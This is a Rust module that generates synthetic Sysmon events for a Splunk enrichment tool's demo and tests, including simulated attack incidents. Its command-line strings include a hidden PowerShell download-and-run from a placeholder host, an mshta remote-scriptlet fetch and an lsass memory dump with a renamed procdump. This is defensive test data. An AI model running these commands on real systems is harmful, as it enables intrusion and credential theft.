//! Realistic synthetic Sysmon results, for the demo, benchmarks and
//! memory tests.
//!
//! The shared datasets are real but small (the largest has 48k rows) and
//! some cannot be redistributed, so anything that needs a million rows, a
//! stream of five million distinct processes, or runs on a machine without
//! `../shared` uses this generator. It models what makes the real data hard:
//! per-host process trees several levels deep, every common EventCode with
//! the fields Splunk extracts for it (raw Sysmon names *and* CIM names,
//! including the 8/10 source/target swap), `Hashes` in several subsets,
//! values that need CSV quoting, and newest-first order, so children always
//! arrive before their parents. Deterministic for a given seed.

use crate::protocol::multivalue::MV_PREFIX;
use crate::protocol::records::push_record;

pub mod diverse;

/// Columns of a generated row, in the order splunkd would send them for
/// `sysmonenrich`'s `required_fields` (plus `_time` and `_chunked_idx`).
pub const COLUMNS: &[&str] = &[
    "_time",
    "host",
    "EventCode",
    "EventID",
    "Computer",
    "ProcessGuid",
    "ProcessId",
    "Image",
    "CommandLine",
    "ParentProcessGuid",
    "ParentImage",
    "ParentCommandLine",
    "Hashes",
    "MD5",
    "SHA1",
    "SHA256",
    "IMPHASH",
    "SourceProcessGUID",
    "SourceImage",
    "process_guid",
    "process_path",
    "process",
    "parent_process_guid",
    "parent_process_path",
    "parent_process",
    "process_hash",
    "dest",
];

/// Small, fast, deterministic PRNG (splitmix64).
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// Seeded generator.
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    /// Next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }

    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 > 1.0 - p
    }
}

/// One generated event: values by [`COLUMNS`] index.
#[derive(Debug, Clone, Default)]
pub struct SynthEvent {
    /// Cell values, one per column of [`COLUMNS`].
    pub values: Vec<String>,
}

impl SynthEvent {
    fn new() -> SynthEvent {
        SynthEvent {
            values: vec![String::new(); COLUMNS.len()],
        }
    }

    fn set(&mut self, column: &str, value: impl Into<String>) {
        if let Some(i) = COLUMNS.iter().position(|c| *c == column) {
            self.values[i] = value.into();
        }
    }

    /// The value of a column.
    pub fn get(&self, column: &str) -> &str {
        COLUMNS
            .iter()
            .position(|c| *c == column)
            .map_or("", |i| self.values[i].as_str())
    }
}

#[derive(Debug, Clone)]
struct Proc {
    guid: String,
    depth: u32,
    pid: u32,
    image: &'static str,
    command_line: String,
}

/// Images a generated process may run, with how they are launched.
const CHILDREN: &[(&str, &str)] = &[
    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c \"dir C:\\Users\\Public & whoami\""),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -Command \"Get-Process | Select-Object -First 5\""),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("C:\\Windows\\System32\\PING.EXE", "ping -n 1 10.0.0.1"),
    ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"),
    ("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),
    ("C:\\Windows\\System32\\net.exe", "net user /domain"),
    ("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL"),
    ("C:\\Windows\\System32\\schtasks.exe", "schtasks /query /fo LIST"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\invoice, final.docm\""),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=de"),
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
    ("C:\\Windows\\System32\\mshta.exe", "mshta.exe \"javascript:a=GetObject('script:https://example.invalid/x.sct')\""),
    ("C:\\Users\\bob\\AppData\\Local\\Temp\\Übersicht ✓\\tool.exe", "\"C:\\Users\\bob\\AppData\\Local\\Temp\\Übersicht ✓\\tool.exe\" --silent"),
];

/// Generates newest-first Sysmon results for a number of hosts.
#[derive(Debug, Clone)]
pub struct Generator {
    rng: Rng,
    hosts: Vec<String>,
    next_guid: u64,
    time: f64,
}

impl Generator {
    /// A generator over `hosts` machines.
    pub fn new(seed: u64, hosts: usize) -> Generator {
        Generator {
            rng: Rng::new(seed),
            hosts: (0..hosts.max(1))
                .map(|i| format!("WS{:04}", i + 1))
                .collect(),
            next_guid: 1,
            time: 1_700_000_000.0,
        }
    }

    fn guid(&mut self, host: usize) -> String {
        let n = self.next_guid;
        self.next_guid += 1;
        format!(
            "{{{:08X}-{:04X}-{:04X}-0000-0010{:08X}}}",
            0x747F_3D96u32.wrapping_add(host as u32),
            (n >> 32) as u16,
            (n >> 16) as u16,
            n as u32
        )
    }

    /// Generates the next block: one session on one host (a login tree and
    /// `processes` more processes with their activity), returned newest
    /// first. Successive blocks move forward in time, so a caller wanting a
    /// whole result set newest first emits the blocks in reverse, or (for
    /// streams too large to hold) accepts that a block's oldest ancestors
    /// (the login tree) arrive within the same block.
    pub fn block(&mut self, processes: usize) -> Vec<SynthEvent> {
        let host_i = self.rng.below(self.hosts.len());
        let host = self.hosts[host_i].clone();
        let mut events = Vec::with_capacity(processes * 6 + 16);
        let root = Proc {
            guid: "{00000000-0000-0000-0000-000000000000}".into(),
            depth: 0,
            pid: 4,
            image: "System",
            command_line: String::new(),
        };
        let chain = BOOT_CHAIN;
        let mut live: Vec<Proc> = Vec::new();
        let mut parent = root;
        for (image, cmd) in chain {
            let p = self.spawn(&host, host_i, &parent, image, cmd.to_string(), &mut events);
            parent = p.clone();
            live.push(p);
        }
        for _ in 0..processes {
            // Real trees are shallow and bushy (the datasets top out at
            // depth 6): most new processes hang off explorer.exe or a
            // recent shell, rarely deeper.
            let explorer = live[3].clone();
            let recent: Vec<&Proc> = live.iter().rev().take(16).filter(|p| p.depth < 7).collect();
            let parent = if recent.is_empty() || self.rng.chance(0.4) {
                explorer
            } else {
                recent[self.rng.below(recent.len())].clone()
            };
            let (image, cmd) = CHILDREN[self.rng.below(CHILDREN.len())];
            let p = self.spawn(&host, host_i, &parent, image, cmd.to_string(), &mut events);
            self.activity(&host, &p, &live, &mut events);
            live.push(p);
            if live.len() > 64 {
                live.remove(4);
            }
        }
        events.reverse();
        events
    }

    fn tick(&mut self) -> String {
        self.time += 0.001 + self.rng.below(250) as f64 / 1000.0;
        format!("{:.3}", self.time)
    }

    fn base(&mut self, host: &str, code: u32) -> SynthEvent {
        let mut e = SynthEvent::new();
        e.set("_time", self.tick());
        e.set("host", host);
        e.set("EventCode", code.to_string());
        e.set("EventID", code.to_string());
        e.set("Computer", format!("{host}.corp.example.com"));
        e.set("dest", format!("{host}.corp.example.com"));
        e
    }

    fn spawn(
        &mut self,
        host: &str,
        host_i: usize,
        parent: &Proc,
        image: &'static str,
        command_line: String,
        events: &mut Vec<SynthEvent>,
    ) -> Proc {
        let p = Proc {
            guid: self.guid(host_i),
            depth: parent.depth + 1,
            pid: 1000 + self.rng.below(60000) as u32,
            image,
            command_line,
        };
        let mut e = self.base(host, 1);
        let hashes = hashes_for(image, self.rng.below(10));
        e.set("ProcessGuid", p.guid.clone());
        e.set("ProcessId", p.pid.to_string());
        e.set("Image", image);
        e.set("CommandLine", p.command_line.clone());
        e.set("ParentProcessGuid", parent.guid.clone());
        e.set("ParentImage", parent.image);
        e.set("ParentCommandLine", parent.command_line.clone());
        e.set("process_guid", p.guid.clone());
        e.set("process_path", image);
        e.set("process", p.command_line.clone());
        e.set("parent_process_guid", parent.guid.clone());
        e.set("parent_process_path", parent.image);
        e.set("parent_process", parent.command_line.clone());
        split_hashes(&mut e, &hashes);
        e.set("process_hash", hashes.clone());
        e.set("Hashes", hashes);
        events.push(e);
        p
    }

    fn activity(&mut self, host: &str, p: &Proc, live: &[Proc], events: &mut Vec<SynthEvent>) {
        let loads = 1 + self.rng.below(4);
        for i in 0..loads {
            let dll = [
                "ntdll.dll",
                "kernel32.dll",
                "amsi.dll",
                "clr.dll",
                "wininet.dll",
            ][i % 5];
            let mut e = self.acting(host, 7, p);
            let h = hashes_for(dll, 0);
            split_hashes(&mut e, &h);
            e.set("Hashes", h);
            events.push(e);
        }
        if self.rng.chance(0.5) {
            events.push(self.acting(host, 3, p));
        }
        if self.rng.chance(0.4) {
            events.push(self.acting(host, 11, p));
        }
        if self.rng.chance(0.4) {
            events.push(self.acting(host, 13, p));
        }
        if self.rng.chance(0.2) {
            events.push(self.acting(host, 22, p));
        }
        if self.rng.chance(0.3) {
            // Process access: the *source* acts; CIM swaps it into parent_*.
            let target = &live[self.rng.below(live.len())];
            let mut e = self.base(host, 10);
            e.set("SourceProcessGUID", p.guid.clone());
            e.set("SourceImage", p.image);
            e.set("process_guid", target.guid.clone());
            e.set("process_path", target.image);
            e.set("parent_process_guid", p.guid.clone());
            e.set("parent_process_path", p.image);
            events.push(e);
        }
        if self.rng.chance(0.3) {
            events.push(self.acting(host, 5, p));
        }
    }

    fn acting(&mut self, host: &str, code: u32, p: &Proc) -> SynthEvent {
        let mut e = self.base(host, code);
        e.set("ProcessGuid", p.guid.clone());
        e.set("ProcessId", p.pid.to_string());
        e.set("Image", p.image);
        e.set("process_guid", p.guid.clone());
        e.set("process_path", p.image);
        e
    }
}

/// A stable fake `Hashes` value for an image: the same binary always has
/// the same hashes, so a large stream has few distinct hashes, as real
/// fleets do. `variant` picks the subset Sysmon was configured with.
pub fn hashes_for(image: &str, variant: usize) -> String {
    let mut r = Rng::new(image.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    }));
    let mut hex = |n: usize| -> String {
        let mut s = String::with_capacity(n);
        while s.len() < n {
            s.push_str(&format!("{:016X}", r.next_u64()));
        }
        s.truncate(n);
        s
    };
    let (md5, sha1, sha256, imp) = (hex(32), hex(40), hex(64), hex(32));
    match variant {
        0..=6 => format!("SHA1={sha1},MD5={md5},SHA256={sha256},IMPHASH={imp}"),
        7 | 8 => format!("MD5={md5},IMPHASH={imp}"),
        _ => format!("SHA256={sha256}"),
    }
}

/// The dropped payload of [`Incident::MacroDropper`]: the demo's deny list
/// names its hashes as malicious.
pub const DROPPER_IMAGE: &str =
    "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\msupdate.exe";

/// The renamed dump tool of [`Incident::WmiLateral`]: the demo's deny list
/// names its hashes as suspicious (a dual-use tool, not malware).
pub const DUMPER_IMAGE: &str = "C:\\Windows\\Temp\\pd64.exe";

/// An attack, as the events Sysmon records for it, for the demo to find.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Incident {
    /// A macro document: WINWORD.EXE starts cmd.exe and PowerShell, which
    /// drop and run [`DROPPER_IMAGE`]; the payload runs discovery commands.
    MacroDropper,
    /// Remote WMI execution (wmiexec's pattern): WmiPrvSE.exe starts
    /// cmd.exe, which runs [`DUMPER_IMAGE`] against lsass.exe.
    WmiLateral,
}

impl Generator {
    /// The events of one `incident` on one host, with that host's boot or
    /// logon tree, newest first, at the generator's current time (so a
    /// caller places it among [`Generator::block`]s by when it calls).
    pub fn incident(&mut self, incident: Incident) -> Vec<SynthEvent> {
        let host_i = self.rng.below(self.hosts.len());
        let host = self.hosts[host_i].clone();
        let mut events = Vec::new();
        let system = Proc {
            guid: "{00000000-0000-0000-0000-000000000000}".into(),
            depth: 0,
            pid: 4,
            image: "System",
            command_line: String::new(),
        };
        let run = |g: &mut Generator,
                   events: &mut Vec<SynthEvent>,
                   parent: &Proc,
                   image: &'static str,
                   cmd: &str| {
            g.spawn(&host, host_i, parent, image, cmd.to_string(), events)
        };
        let smss = run(
            self,
            &mut events,
            &system,
            "C:\\Windows\\System32\\smss.exe",
            "\\SystemRoot\\System32\\smss.exe",
        );
        match incident {
            Incident::MacroDropper => {
                let winlogon = run(
                    self,
                    &mut events,
                    &smss,
                    "C:\\Windows\\System32\\winlogon.exe",
                    "winlogon.exe",
                );
                let userinit = run(
                    self,
                    &mut events,
                    &winlogon,
                    "C:\\Windows\\System32\\userinit.exe",
                    "C:\\Windows\\system32\\userinit.exe",
                );
                let explorer = run(
                    self,
                    &mut events,
                    &userinit,
                    "C:\\Windows\\explorer.exe",
                    "C:\\Windows\\Explorer.EXE",
                );
                let word = run(self, &mut events, &explorer, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\Invoice_2026-11.docm\" /o \"\"");
                let cmd = run(self, &mut events, &word, "C:\\Windows\\System32\\cmd.exe",
                    "cmd.exe /c powershell -nop -w hidden -ep bypass -c \"iwr https://cdn.example.invalid/u.bin -o $env:APPDATA\\Microsoft\\Windows\\msupdate.exe; & $env:APPDATA\\Microsoft\\Windows\\msupdate.exe\"");
                let ps = run(self, &mut events, &cmd, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell -nop -w hidden -ep bypass -c \"iwr https://cdn.example.invalid/u.bin -o $env:APPDATA\\Microsoft\\Windows\\msupdate.exe; & $env:APPDATA\\Microsoft\\Windows\\msupdate.exe\"");
                let acting = self.acting(&host, 3, &ps);
                events.push(acting);
                let payload = run(self, &mut events, &ps, DROPPER_IMAGE, "\"C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\msupdate.exe\" /install");
                for code in [3, 13, 3] {
                    let e = self.acting(&host, code, &payload);
                    events.push(e);
                }
                let shell = run(
                    self,
                    &mut events,
                    &payload,
                    "C:\\Windows\\System32\\cmd.exe",
                    "cmd.exe /c \"whoami /all & net group \"domain admins\" /domain\"",
                );
                run(
                    self,
                    &mut events,
                    &shell,
                    "C:\\Windows\\System32\\whoami.exe",
                    "whoami /all",
                );
                run(
                    self,
                    &mut events,
                    &shell,
                    "C:\\Windows\\System32\\net.exe",
                    "net group \"domain admins\" /domain",
                );
            }
            Incident::WmiLateral => {
                let wininit = run(
                    self,
                    &mut events,
                    &smss,
                    "C:\\Windows\\System32\\wininit.exe",
                    "wininit.exe",
                );
                let lsass = run(
                    self,
                    &mut events,
                    &wininit,
                    "C:\\Windows\\System32\\lsass.exe",
                    "C:\\Windows\\system32\\lsass.exe",
                );
                let services = run(
                    self,
                    &mut events,
                    &wininit,
                    "C:\\Windows\\System32\\services.exe",
                    "C:\\Windows\\system32\\services.exe",
                );
                let svchost = run(
                    self,
                    &mut events,
                    &services,
                    "C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                );
                let wmi = run(
                    self,
                    &mut events,
                    &svchost,
                    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                );
                let cmd = run(self, &mut events, &wmi, "C:\\Windows\\System32\\cmd.exe",
                    "cmd.exe /Q /c C:\\Windows\\Temp\\pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp 1> \\\\127.0.0.1\\ADMIN$\\__1701234567.89 2>&1");
                let dumper = run(self, &mut events, &cmd, DUMPER_IMAGE, "C:\\Windows\\Temp\\pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp");
                // The dump: pd64.exe opens lsass.exe (CIM swaps source and
                // target into parent_* and process_*).
                let mut access = self.base(&host, 10);
                access.set("SourceProcessGUID", dumper.guid.clone());
                access.set("SourceImage", dumper.image);
                access.set("process_guid", lsass.guid.clone());
                access.set("process_path", lsass.image);
                access.set("parent_process_guid", dumper.guid.clone());
                access.set("parent_process_path", dumper.image);
                events.push(access);
                let file = self.acting(&host, 11, &dumper);
                events.push(file);
            }
        }
        events.reverse();
        events
    }
}

fn split_hashes(e: &mut SynthEvent, hashes: &str) {
    for part in hashes.split(',') {
        if let Some((k, v)) = part.split_once('=') {
            e.set(k, v);
        }
    }
}

/// True when splunkd would write this value without quotes.
fn bare(value: &str) -> bool {
    value.is_empty() || value.bytes().all(|b| b.is_ascii_alphanumeric())
}

/// Appends a value the way splunkd quotes: everything that is not empty or
/// purely alphanumeric is quoted.
pub fn push_splunkd_field(out: &mut Vec<u8>, value: &str) {
    if bare(value) {
        out.extend_from_slice(value.as_bytes());
    } else {
        crate::protocol::records::push_quoted(out, value.as_bytes());
    }
}

/// The splunkd-style header for [`COLUMNS`]: plain columns, `_chunked_idx`,
/// then one `__mv_` column per plain column.
pub fn splunkd_header(out: &mut Vec<u8>) {
    splunkd_header_for(out, COLUMNS);
}

/// [`splunkd_header`] for another column list (e.g. [`diverse::COLUMNS`]).
pub fn splunkd_header_for(out: &mut Vec<u8>, columns: &[&str]) {
    let mut first = true;
    for c in columns.iter().chain(std::iter::once(&"_chunked_idx")) {
        if !first {
            out.push(b',');
        }
        first = false;
        push_splunkd_field(out, c);
    }
    for c in columns {
        out.push(b',');
        let mut name = MV_PREFIX.to_vec();
        name.extend_from_slice(c.as_bytes());
        push_splunkd_field(out, &String::from_utf8_lossy(&name));
    }
    out.push(b'\n');
}

/// One splunkd-style row (empty `__mv_` cells: all values are single).
/// The event's values are in the order of the header's column list
/// ([`COLUMNS`] or [`diverse::COLUMNS`]).
pub fn splunkd_row(out: &mut Vec<u8>, e: &SynthEvent, chunked_idx: u64) {
    for v in &e.values {
        push_splunkd_field(out, v);
        out.push(b',');
    }
    out.extend_from_slice(chunked_idx.to_string().as_bytes());
    for _ in &e.values {
        out.push(b',');
    }
    out.push(b'\n');
}

/// A plain RFC 4180 CSV row (for files the CLI reads).
pub fn csv_row(out: &mut Vec<u8>, e: &SynthEvent) {
    push_record(out, &e.values);
}

/// The processes between `System` and a user's desktop (image, command
/// line), as every generated host starts them.
pub(crate) const BOOT_CHAIN: [(&str, &str); 4] = [
    (
        "C:\\Windows\\System32\\smss.exe",
        "\\SystemRoot\\System32\\smss.exe",
    ),
    ("C:\\Windows\\System32\\winlogon.exe", "winlogon.exe"),
    (
        "C:\\Windows\\System32\\userinit.exe",
        "C:\\Windows\\system32\\userinit.exe",
    ),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sysmon::ProcessGuid;

    #[test]
    fn children_come_before_parents_and_body_parses() {
        let mut g = Generator::new(7, 3);
        let events = g.block(200);
        let created: std::collections::HashMap<ProcessGuid, usize> = events
            .iter()
            .enumerate()
            .filter(|(_, e)| e.get("EventCode") == "1")
            .map(|(i, e)| {
                (
                    ProcessGuid::parse(e.get("ProcessGuid").as_bytes()).unwrap(),
                    i,
                )
            })
            .collect();
        let mut with_parent = 0;
        let mut max_depth = 0;
        for (i, e) in events
            .iter()
            .enumerate()
            .filter(|(_, e)| e.get("EventCode") == "1")
        {
            let parent = ProcessGuid::parse(e.get("ParentProcessGuid").as_bytes()).unwrap();
            if let Some(&p) = created.get(&parent) {
                assert!(p > i, "parent created at {p} before child at {i}");
                with_parent += 1;
            }
            let mut depth = 1;
            let mut cur = parent;
            while let Some(&p) = created.get(&cur) {
                cur = ProcessGuid::parse(events[p].get("ParentProcessGuid").as_bytes()).unwrap();
                depth += 1;
            }
            max_depth = max_depth.max(depth);
        }
        assert!(with_parent >= 200, "{with_parent}");
        // Shallow, like real trees: System > smss > winlogon > userinit > explorer > … ≤ 8.
        assert!((5..=9).contains(&max_depth), "{max_depth}");
        let mut body = Vec::new();
        splunkd_header(&mut body);
        for (i, e) in events.iter().enumerate() {
            splunkd_row(&mut body, e, i as u64);
        }
        let mut rdr = crate::protocol::records::RowReader::new(&body, 1 << 20)
            .unwrap()
            .unwrap();
        let mut rec = csv::ByteRecord::new();
        let mut n = 0;
        while rdr.read(&mut rec).unwrap().is_some() {
            n += 1;
        }
        assert_eq!(n, events.len());
    }
}
